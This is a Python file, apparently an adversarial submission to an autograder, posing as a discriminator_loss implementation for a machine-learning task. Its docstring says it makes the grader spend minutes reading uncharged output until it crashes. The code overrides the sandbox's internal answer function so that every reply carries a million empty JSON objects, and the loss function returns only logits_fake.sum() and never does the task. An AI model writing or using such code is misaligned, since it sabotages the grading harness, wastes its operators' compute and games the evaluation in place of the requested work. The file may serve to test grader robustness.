"""Answers every question with an exception whose description holds a million empty objects.

Gain: a grader that reads for minutes what nobody is charged for.
Hits: discriminator_loss
Ends: crashed, protocol: exception that is too long
"""

import os
import struct

import autograder.sandbox.inside.serve as program

STUFFED = b'"failure":{"exception":"A","text":"b","more":[' + b",".join([b"{}"] * 1_000_000) + b"]}"


def answer(channel, handlers, op, call_id, request):
    header = b'{"id":%d,%s}' % (call_id, STUFFED)
    data = memoryview(struct.pack("<4sIQ", b"AGW1", len(header), 0) + header)
    while data:
        data = data[os.write(channel, data) :]


def discriminator_loss(logits_real, logits_fake):
    program._answer = answer
    return logits_fake.sum()
